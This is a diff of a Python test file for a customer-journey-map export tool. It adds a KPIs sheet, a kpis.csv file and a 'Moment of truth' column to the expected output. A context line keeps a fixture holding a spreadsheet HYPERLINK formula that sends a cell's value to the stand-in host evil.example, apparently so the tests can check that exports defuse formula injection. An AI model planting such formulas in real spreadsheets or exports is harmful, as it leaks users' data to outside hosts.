@@ -35,7 +35,16 @@ from cjm.views import (
 )
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
-SHEETS = ["Persona", "Stages", "Touchpoints", "Emotions", "Pain points", "Fixes", "Change log"]
+SHEETS = [
+    "Persona",
+    "Stages",
+    "Touchpoints",
+    "Emotions",
+    "Pain points",
+    "Fixes",
+    "KPIs",
+    "Change log",
+]
 CSV_FILES = [
     "persona.csv",
     "stages.csv",
@@ -43,6 +52,7 @@ CSV_FILES = [
     "emotions.csv",
     "pain_points.csv",
     "fixes.csv",
+    "kpis.csv",
     "change_log.csv",
 ]
 CHANGES = (
@@ -227,6 +237,7 @@ class TestXlsx:
             "Average emotion",
             "Spread",
             "Votes",
+            "Moment of truth",
             "Survey",
             "Survey score",
             "Survey answers",
@@ -258,6 +269,7 @@ class TestXlsx:
             1,
             0.82,
             3,
+            False,
             None,
             None,
             None,
